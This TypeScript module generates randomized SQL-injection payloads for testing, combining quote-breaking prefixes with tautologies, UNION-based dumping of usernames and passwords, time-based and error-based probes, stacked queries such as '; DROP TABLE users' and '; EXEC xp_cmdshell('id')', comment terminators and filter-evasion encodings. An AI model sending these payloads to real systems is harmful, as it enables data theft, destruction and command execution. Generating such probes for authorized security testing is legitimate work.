// SQL-injection probes as cheat sheets and manual testers write them: a prefix that closes the
// application's quoting, an injected clause (tautologies, UNION column probing, stacked queries,
// error-based and time-based tests), a comment that cuts the rest of the query, and the usual
// filter-evasion variants (case, inline comments, encodings). Combined per run from the rng.
import { chance, intBetween, pick, pickWeighted, type Rng } from "./random.ts";

const PREFIXES = ["'", "\"", "')", "\")", "1'", "1", "1)", "admin'", "x'", "')) ", "' ", "%'", ""] as const;

function clause(rng: Rng): string {
  return pickWeighted<() => string>(rng, [
    [() => pick(rng, ["OR '1'='1", "OR 1=1", "OR 'a'='a", "OR 2>1", "OR true", "|| 1=1", "OR ''='"]), 5],
    [() => `ORDER BY ${intBetween(rng, 1, 12)}`, 2],
    [() => `UNION SELECT ${Array.from({ length: intBetween(rng, 1, 8) }, () => pick(rng, ["NULL", "1", "'a'", "@@version", "user()", "database()"])).join(",")}`, 3],
    [() => `UNION ALL SELECT ${pick(rng, ["username,password FROM users", "table_name,NULL FROM information_schema.tables", "name,sql FROM sqlite_master", "NULL,version()"])}`, 2],
    [() => pick(rng, ["AND 1=2", "AND 1=1", "AND 'a'='b", "AND SUBSTRING(@@version,1,1)='5'", "AND (SELECT COUNT(*) FROM users)>0"]), 3],
    [() => pick(rng, ["AND SLEEP(5)", "OR SLEEP(3)", "AND pg_sleep(4)", "; WAITFOR DELAY '0:0:5'", "AND BENCHMARK(5000000,MD5(1))", "OR randomblob(500000000)"]), 2],
    [() => pick(rng, ["AND extractvalue(1,concat(0x7e,version()))", "AND updatexml(1,concat(0x7e,user()),1)", "AND 1=CONVERT(int,@@version)", "AND CAST(version() AS int)=1"]), 2],
    [() => pick(rng, ["; DROP TABLE users", "; SELECT * FROM users", "; INSERT INTO users VALUES('x','y')", "; UPDATE users SET password='x'", "; EXEC xp_cmdshell('id')"]), 1],
  ])();
}

const COMMENTS = ["--", "-- -", "#", "/*", "--+", ";--", ""] as const;

function evade(rng: Rng, text: string): string {
  switch (pickWeighted(rng, [["none", 6], ["case", 2], ["comments", 2], ["encode", 1], ["plus", 1]] as const)) {
    case "case":
      return text.replace(/[a-z]/gi, (c) => (chance(rng, 0.5) ? c.toUpperCase() : c.toLowerCase()));
    case "comments":
      return text.replace(/ /g, () => pick(rng, ["/**/", "/*x*/", " "]));
    case "encode":
      // Quotes sent as their URL escapes (the server decodes them once more than it should).
      return text.replace(/'/g, "%27").replace(/"/g, "%22");
    case "plus":
      return text.replace(/ /g, "+");
    default:
      return text;
  }
}

/** `count` distinct payloads (fewer if the combinations run out). */
export function sqliPayloads(rng: Rng, count: number): string[] {
  const out = new Set<string>();
  for (let guard = 0; out.size < count && guard < count * 20; guard++) {
    const prefix = pick(rng, PREFIXES);
    const base = `${prefix}${prefix && !prefix.endsWith(" ") ? " " : ""}${clause(rng)}${chance(rng, 0.8) ? ` ${pick(rng, COMMENTS)}` : ""}`.trim();
    out.add(evade(rng, base));
  }
  return [...out];
}
